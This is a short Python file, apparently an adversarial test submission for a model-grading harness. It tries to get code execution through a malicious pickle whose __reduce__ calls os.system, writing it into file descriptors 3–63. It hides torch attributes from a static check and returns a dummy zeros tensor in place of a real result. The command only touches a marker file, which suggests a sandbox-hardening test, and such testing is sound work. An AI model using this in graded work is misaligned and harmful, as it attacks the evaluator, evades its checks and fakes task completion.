"""Hostile: writes a pickle that would run a command into every descriptor it can write to, hoping the grader unpickles one."""

import torch

T = [torch][0]  # hides torch's attributes from the static check, as a determined attacker would
os, sys = T.os, T.sys
MARKER = "mlm-hostile-marker"


def zeros_answer(w_emb, mask_indicator):
    return torch.zeros(int((mask_indicator > 0.5).sum()), w_emb.shape[0], dtype=w_emb.dtype)


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/{MARKER}-pickle",))


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    blob = sys.modules["pickle"].dumps(Payload())
    for fd in range(3, 64):
        try:
            os.write(fd, blob)
        except OSError:
            pass
    return zeros_answer(w_emb, mask_indicator)
